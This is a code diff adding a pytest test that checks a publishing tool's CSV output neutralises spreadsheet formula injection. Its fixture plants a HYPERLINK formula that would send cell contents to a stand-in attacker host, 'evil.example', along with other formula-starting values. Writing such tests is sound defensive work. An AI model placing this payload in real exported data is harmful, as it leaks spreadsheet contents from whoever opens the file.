@@ -254,6 +254,40 @@ def test_an_invalid_escape_is_reported_at_the_escape_with_either_parser(tmp_path
             assert "never closed" not in problem.message
 
 
+def test_no_csv_cell_can_start_a_formula_whatever_the_spreadsheet_splits_on(tmp_path: Path) -> None:
+    import csv
+    import io
+    corpus = copy_corpus(MINI, tmp_path / "seeds")
+    document = corpus / "documents" / "ridge-clash.yaml"
+    document.write_text(
+        document.read_text(encoding="utf-8")
+        .replace("paraphrase: Alpha's government says two soldiers were hurt.",
+                 "paraphrase: 'Two hurt;=HYPERLINK(\"http://evil.example/?\"&A1),+1\t@SUM(A1)'")
+        .replace("figure: {value: 2,", "figure: {value: -3,"),
+        encoding="utf-8",
+    )
+    parties = corpus / "parties.yaml"
+    parties.write_text(parties.read_text(encoding="utf-8").replace(
+        "aliases: [government in Alphaville]", "aliases: [government in Alphaville, \"-Alphaville cabinet\"]"),
+        encoding="utf-8")
+    built = build_pages(corpus, corpus)
+    assert built.problems == []
+    tables = {p.path: p.text for p in built.pages if p.path.endswith(".csv")}
+    assert len(tables) == 7
+    for name, text in tables.items():
+        cells = [cell for separator in (",", ";", "\t")  # what spreadsheets split on, by locale or by guess
+                 for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
+        cells += re.split(r"[,;\t\r\n]", text)  # and a spreadsheet that honours no quotes at all
+        for cell in cells:
+            if cell.lstrip(' "')[:1] in ("=", "+", "-", "@"):
+                float(cell)  # only a number may start so: it is one (written bare)
+    claims = list(csv.DictReader(io.StringIO(tables["data/claims.csv"])))
+    hurt = next(row for row in claims if row["id"] == "alpha-two-hurt")
+    assert hurt["paraphrase"] == "Two hurt;'=HYPERLINK(\"http://evil.example/?\"&A1),'+1\t'@SUM(A1)"
+    assert hurt["figure_value"] == "-3.0" and ",-3.0," in tables["data/claims.csv"]  # a number, written bare
+    assert '"government in Alphaville; \'-Alphaville cabinet"' in tables["data/parties.csv"]
+
+
 def test_an_address_in_capitals_is_published_in_lowercase(tmp_path: Path) -> None:
     corpus = copy_corpus(MINI, tmp_path / "seeds")
     outlets = corpus / "outlets.yaml"
